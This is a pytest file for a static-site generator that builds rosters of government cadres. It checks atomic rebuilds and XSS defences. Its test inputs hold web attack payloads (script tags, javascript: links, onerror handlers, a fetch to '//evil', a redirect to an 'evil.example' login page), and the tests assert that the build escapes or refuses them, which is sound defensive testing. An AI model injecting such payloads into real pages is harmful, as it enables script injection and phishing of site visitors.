"""`cadres build`: real `mkdocs build`s, text shown as text, a failed or killed build keeps the old site."""

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from pages import find, links

from conftest import AS_OF, cadre_file, change, district_registry


def build(cadres, project, *extra):
    return cadres(project, "build", "--as-of", AS_OF, "--audience", "unit-caizheng", "--jobs", "1", *extra)


@pytest.fixture
def built(project, cadres):
    status, _, err = build(cadres, project)
    assert status == 0, err
    return project / "site" / "unit-caizheng"


def snapshot(folder):
    return {p.relative_to(folder): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_progress_is_shown_per_audience(project, cadres):
    status, lines, err = build(cadres, project)
    assert status == 0
    assert "[1/1] unit-caizheng（区财政局（本单位））：" in err and "mkdocs" in err
    assert lines[-1].startswith("网站已生成：")


def test_an_unknown_audience_is_named(project, cadres):
    status, _, err = cadres(project, "build", "--as-of", AS_OF, "--audience", "unit-nowhere")
    assert status == 2 and "没有读者「unit-nowhere」" in err and "unit-caizheng" in err


def test_html_and_markdown_in_a_record_render_as_text(project, cadres):
    cadre = next(
        e.data["id"]
        for e in district_registry().cadres
        if e.data["employment"]["unit"] == "caizheng"
        and e.data["reserve"]["level"] == "副职"
        and e.data["reserve"]["status"] == "在库"
    )

    def inject(data):
        data["name"] = "<script>x()</script>"  # the longest name the schema takes
        data["employment"]["post"] = (
            "<script>alert(1)</script>[点我](javascript:alert(1)) <img src=x onerror=alert(2)> **粗**"
        )

    change(project, cadre, inject)
    status, _, err = build(cadres, project)
    assert status == 0, err
    site = project / "site" / "unit-caizheng"
    for page in ("roster/unit.html", f"profiles/{cadre}.html"):
        html = (site / page).read_text(encoding="utf-8")
        assert "<script>x()" not in html and "<script>alert(1)" not in html  # the <title> too
        assert 'href="javascript:' not in html and "<img src=x" not in html
        # read as the browser does: the name and the post as text, and no element or link made of them
        texts = [e.text for e in find(html) if e.tag not in ("script", "style")]
        assert any("<script>x()</script>" in t for t in texts), page
        post = "<script>alert(1)</script>[点我](javascript:alert(1)) <img src=x onerror=alert(2)> **粗**"
        assert any(post in t for t in texts), page
        assert not any("x()" in e.text or "alert(" in e.text for e in find(html, "script")), page
        assert not any(href.strip().lower().startswith("javascript:") for href, _ in links(html)), page
        assert not any(e.attrs.get("src") == "x" or "onerror" in e.attrs for e in find(html)), page
        assert not any(e.text == "粗" for e in find(html, "strong")), page
        assert "<strong>粗</strong>" not in html


def test_a_registry_with_errors_is_not_built_and_the_old_site_stays(built, project, cadres):
    before = snapshot(built)
    path = cadre_file(project, "cai-0001")
    path.write_text(path.read_text(encoding="utf-8").replace("ethnicity: 汉族", "ethnicity: 汉"), encoding="utf-8")
    status, _, err = build(cadres, project)
    assert status == 1 and "未生成网站" in err
    assert snapshot(built) == before


def test_a_failing_mkdocs_build_leaves_the_previous_site_whole(built, project, cadres):
    before = snapshot(built)
    (project / "site_templates" / "index.md.j2").write_text("[坏链接](missing.md)\n", encoding="utf-8")
    status, _, err = build(cadres, project)
    assert status == 2 and "原有站点保持不变" in err and "missing.md" in err
    assert snapshot(built) == before
    assert [p.name for p in (project / "site").iterdir()] == ["unit-caizheng"]


def test_a_workbook_that_fails_beside_mkdocs_fails_the_build_and_the_previous_site_stays(
    built, project, cadres, monkeypatch
):
    """The 名册 workbook is written in a child process while mkdocs builds the pages: its failure is the build's,
    said with the workbook's name, and the previous site stays whole (never one with an empty workbook)."""
    from generator.interchange import excel

    def broken(*args, **kwargs):
        raise OSError("磁盘已满")

    before = snapshot(built)
    assert before[Path("downloads/roster-unit-caizheng.xlsx")].startswith(b"PK")  # a real workbook, zipped
    monkeypatch.setattr(excel, "roster_workbook", broken)
    status, _, err = build(cadres, project)
    assert status == 2 and "名册工作簿（downloads/roster-unit-caizheng.xlsx）生成失败：磁盘已满" in err, err
    assert "原有站点保持不变" in err and snapshot(built) == before


def test_a_workbook_left_out_of_the_site_fails_the_build_and_the_previous_site_stays(built, project, cadres):
    """A mkdocs.yml that leaves downloads/ out (exclude_docs): the workbook has no place in the site, said as the
    build's failure (an attack on 2026-12-06: an uncaught FileNotFoundError)."""
    before = snapshot(built)
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "exclude_docs: |\n  downloads/\n", encoding="utf-8")
    status, _, err = build(cadres, project)
    assert status == 2 and "名册工作簿（downloads/roster-unit-caizheng.xlsx）没有放进站点" in err, err
    assert "Traceback" not in err and snapshot(built) == before


def test_a_site_name_with_markup_is_refused_and_the_previous_site_stays(built, project, cadres):
    before = snapshot(built)
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            "site_name: 科级后备干部名册", "site_name: 名册<script>x()</script>"
        ),
        encoding="utf-8",
    )
    status, _, err = build(cadres, project)
    assert status == 2
    assert (
        "网站名称「蜀山区名册&lt;script&gt;x()&lt;/script&gt; · 区财政局（本单位）」含有 < > & \" ' 或控制字符" in err
    )
    assert snapshot(built) == before


def test_a_bad_template_leaves_the_previous_site_whole(built, project, cadres):
    before = snapshot(built)
    (project / "site_templates" / "stats.md.j2").write_text("{{ no_such_value }}\n", encoding="utf-8")
    status, _, err = build(cadres, project)
    assert status == 2 and "no_such_value" in err
    assert snapshot(built) == before


def test_pages_rendered_on_every_core_are_the_pages_rendered_in_one_and_a_workers_error_is_said(
    built, project, cadres, monkeypatch
):
    """A site of many pages (the org department's, from 400) is rendered by forked workers: the same pages,
    and a template that fails in a worker is said as it is said here."""
    from generator.core import parallel

    pages = {p: text for p, text in snapshot(built).items() if p.suffix in (".html", ".json")}
    monkeypatch.setattr(parallel, "PARALLEL_FROM", 1)  # this unit's 48 pages on the workers too
    status, _, err = build(cadres, project)
    assert status == 0, err
    assert {p: text for p, text in snapshot(built).items() if p.suffix in (".html", ".json")} == pages
    profile = project / "site_templates" / "profile.md.j2"
    profile.write_text(profile.read_text(encoding="utf-8") + "{{ no_such_value.x }}\n", encoding="utf-8")
    status, _, err = build(cadres, project)
    assert status == 2 and "页面模板 site_templates/profile.md.j2 有错误（生成 profiles/cai-" in err, err
    assert "no_such_value" in err and "Traceback" not in err


def test_a_killed_build_leaves_the_previous_site_and_the_next_build_cleans_up(built, project, warm_cache, cadres):
    before = snapshot(built)
    shutil.copytree(warm_cache, project / ".cache")  # validation is not what this test waits for
    env = {**os.environ, "CADRES_CACHE_DIR": str(project / ".cache")}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "generator",
            "--root",
            str(project),
            "build",
            "--as-of",
            AS_OF,
            "--audience",
            "unit-caizheng",
            "--jobs",
            "1",
        ],
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    deadline = time.monotonic() + 60
    while not any(p.name.startswith(".build-") for p in (project / "site").iterdir()):
        assert time.monotonic() < deadline and proc.poll() is None
        time.sleep(0.02)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert snapshot(built) == before
    leftovers = [p.name for p in (project / "site").iterdir() if p.name.startswith(".build-")]
    assert leftovers
    # the next build, whatever becomes of it, first removes what the killed one left
    status, _, _err = cadres(project, "build", "--as-of", AS_OF, "--audience", "unit-nowhere")
    assert status == 2
    assert [p.name for p in (project / "site").iterdir()] == ["unit-caizheng"]
    assert snapshot(built) == before


def test_a_site_moved_aside_by_a_killed_build_comes_back(built, project, cadres):
    before = snapshot(built)
    aside = built.with_name(".build-old-999999-unit-caizheng")  # no process has that pid
    built.rename(aside)
    status, _, _err = cadres(project, "build", "--as-of", AS_OF, "--audience", "unit-nowhere")
    assert status == 2  # nothing built, but the leftovers were looked at first
    assert snapshot(built) == before and not aside.exists()


@pytest.mark.parametrize("dies_after", [1, 2])
def test_a_site_is_in_place_whatever_step_of_the_swap_a_kill_stops(tmp_path, dies_after):
    """Issue 26: killed between the two renames of the swap, a site was missing until the next build."""
    from generator.core import swap
    from generator.site import build as site_build

    target, staged = tmp_path / "unit-caizheng", tmp_path / ".build-1-x" / "site"
    for folder, text in ((target, "旧"), (staged, "新")):
        folder.mkdir(parents=True)
        (folder / "index.html").write_text(text, encoding="utf-8")
    pid = os.fork()
    if pid == 0:  # the child dies (as if killed) right after its n-th step that changes a name
        steps = []

        def step(real):
            def counted(*args):
                result = real(*args)
                steps.append(1)
                if len(steps) == dies_after:
                    os._exit(0)
                return result

            return counted

        Path.rename = step(Path.rename)
        if swap._renameat2 is not None:
            swap._renameat2 = step(swap._renameat2)
        site_build._swap(staged, target)
        os._exit(0)
    os.waitpid(pid, 0)
    assert (target / "index.html").read_text(encoding="utf-8") in ("旧", "新")


def test_a_killed_build_leaves_no_worker_running(project, warm_cache):
    """Issue 15, point 10: SIGKILL to `cadres build` ends its workers too (PR_SET_PDEATHSIG)."""
    shutil.copytree(warm_cache, project / ".cache")
    env = {**os.environ, "CADRES_CACHE_DIR": str(project / ".cache")}
    command = [sys.executable, "-m", "generator", "--root", str(project), "build", "--as-of", AS_OF, "--jobs", "2"]
    proc = subprocess.Popen(command, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, env=env)

    def children(pid):
        found = set()
        for task in Path(f"/proc/{pid}/task").glob("*/children"):
            found.update(int(c) for c in task.read_text().split())
        return found

    deadline = time.monotonic() + 60
    workers: set = set()
    while len(workers) < 2 and time.monotonic() < deadline and proc.poll() is None:
        workers = children(proc.pid)
        time.sleep(0.05)
    assert len(workers) >= 2, "the build started no workers"
    proc.kill()
    proc.wait()

    def alive(pid):
        try:
            state = Path(f"/proc/{pid}/status").read_text().split("State:")[1].split()[0]
        except (FileNotFoundError, IndexError):
            return False
        return state != "Z"  # a zombie has ended; only its parent's reaping is left

    deadline = time.monotonic() + 10
    while any(alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(alive(w) for w in workers), [w for w in workers if alive(w)]


def test_only_the_themes_own_inline_scripts_are_moved_out_of_a_page():
    """Issue 26: every inline script was moved into a same-origin file, so an injected one ran under the CSP."""
    import material

    from generator.site import hooks

    allowed = hooks.theme_scripts((str(Path(material.__file__).parent / "templates"),))
    theme = (
        '<script>__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
        '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,'
        'a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}</script>'
    )
    found: dict[str, str] = {}
    page = hooks.external_scripts(f"<body>{theme}</body>", "a/b.html", found, allowed)
    assert "<script>" not in page and len(found) == 1 and '<script src="assets/inline/' in page
    for foreign in (
        "<script>window.hit=1</script>",
        '<script>__md_scope=new URL("x",location);fetch("//evil")</script>',  # the theme's start, more after it
        '<script type="module">import("./x.js")</script>',
        # issue 26, attacked again: other spellings of the tag, and a theme script with another host in its slot
        "<script >window.hit=1</script>",
        "<SCRIPT>window.hit=1</SCRIPT>",
        "<script type=module>window.hit=1</script>",
        "<script defer>window.hit=1</script >",
        '<script type="text/javascript" async>window.hit=1</script>',
        "<svg><script>window.hit=1</script></svg>",
        '<script>var el=document.querySelector("[data-md-component=outdated]"),base=new URL("https://evil.example/"),'
        'outdated=__md_get("__outdated",sessionStorage,base);!0===outdated&&el&&(el.hidden=!1)</script>',
        '<script>window.location.replace(["https://evil.example/login",window.location.search,'
        'window.location.hash].join(""))</script>',
    ):
        with pytest.raises(hooks.ForeignScript, match="不是主题写的内联脚本"):
            hooks.external_scripts(f"<body>{theme}{foreign}</body>", "a/b.html", {}, allowed)
    for foreign, what in (
        ('<img src="x" onerror="window.hit=1">', "事件处理属性"),
        ("<body onload=window.hit=1>", "事件处理属性"),
        ('<a title="a > b" href="#" onclick="x()">', "事件处理属性"),
        ('<a href=" javascript:alert(1)">', "javascript: 地址"),
        ("<IMG SRC=x ONERROR=window.hit=1>", "事件处理属性"),  # an attribute's name is any case
        ("<img src=x\n\tOnLoad = window.hit=1>", "事件处理属性"),
        ('<a HREF="JavaScript:alert(1)">', "javascript: 地址"),
    ):
        with pytest.raises(hooks.ForeignScript, match=what):
            hooks.external_scripts(f"<body>{theme}{foreign}</body>", "a/b.html", {}, allowed)
    text = '<p title="工作 onboard=1">负责 online=1 的工作</p>'  # words in text and attribute values are not handlers
    assert hooks.external_scripts(text, "a/b.html", {}, allowed) == text
    data = '<script type="application/json" id="cadres-roster-data">{"a": 1}</script>'
    assert hooks.external_scripts(data, "a/b.html", {}, allowed) == data  # data is never run, and stays


def test_a_template_override_that_writes_an_inline_script_stops_the_build(built, project, cadres):
    before = snapshot(built)
    (project / "site_templates" / "overrides" / "main.html").write_text(
        '{% extends "base.html" %}{% block scripts %}{{ super() }}<script>window.hit=1</script>{% endblock %}\n',
        encoding="utf-8",
    )
    status, _, err = build(cadres, project)
    assert status == 2 and "不是主题写的内联脚本" in err and "原网站不变" in err
    assert snapshot(built) == before


def test_each_audiences_page_templates_are_compiled_once_a_process_and_again_when_edited(project, monkeypatch):
    """Every audience gets a new environment; its templates compile once per process (0.05 s a site), and an
    edited template is compiled again, never served from the old code."""
    import jinja2

    from generator.site.build import environment

    compiled: list[str] = []
    real = jinja2.Environment.compile
    monkeypatch.setattr(
        jinja2.Environment,
        "compile",
        lambda env, source, name=None, filename=None, *a, **k: (
            compiled.append(name) or real(env, source, name, filename, *a, **k)
        ),
    )
    helper = project / "site_templates" / "partials" / "once.j2"
    helper.write_text("{{ value }} 一\n", encoding="utf-8")
    assert environment(project).get_template("partials/once.j2").render(value="甲") == "甲 一\n"
    assert environment(project).get_template("partials/once.j2").render(value="乙") == "乙 一\n"
    assert compiled == ["partials/once.j2"]
    helper.write_text("{{ value }} 二\n", encoding="utf-8")
    assert environment(project).get_template("partials/once.j2").render(value="丙") == "丙 二\n"
    assert compiled == ["partials/once.j2"] * 2


def test_the_theme_is_listed_as_mkdocs_copies_it_without_the_icons_and_once_a_process(tmp_path):
    """MkDocs lists every file of the theme for every site and copies those not under a dot folder: the loader
    lists just those, and an installed theme once per process; a folder of the project's is listed each time."""
    import jinja2
    import material

    from generator.site import hooks

    theme = str(Path(material.__file__).parent / "templates")
    everything = jinja2.FileSystemLoader([theme]).list_templates()
    assert any(name.startswith(".icons/") for name in everything)
    expected = [name for name in everything if not any(part.startswith(".") for part in name.split("/")[:-1])]
    assert hooks.ThemeLoader([theme]).list_templates() == expected
    assert hooks._listed(theme, False) is hooks._listed(theme, False)  # once a process
    for name in ("pkg", "pkg-overrides"):  # a folder whose name only begins with an installed package's
        (tmp_path / name).mkdir()
        (tmp_path / name / "main.html").write_text("", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(hooks, "_PACKAGES", (str(tmp_path / "pkg"),))
        installed, beside = str(tmp_path / "pkg"), str(tmp_path / "pkg-overrides")
        assert hooks._listed(installed, False) is hooks._listed(installed, False)
        assert hooks._listed(beside, False) is not hooks._listed(beside, False)  # listed each time
    own = tmp_path / "overrides"
    (own / ".hidden").mkdir(parents=True)
    (own / ".hidden" / "x.html").write_text("", encoding="utf-8")
    (own / "404.html").write_text("", encoding="utf-8")
    assert hooks.ThemeLoader([str(own)]).list_templates() == ["404.html"]
    (own / "main.html").write_text("", encoding="utf-8")
    assert hooks.ThemeLoader([str(own)]).list_templates() == ["404.html", "main.html"]  # listed again
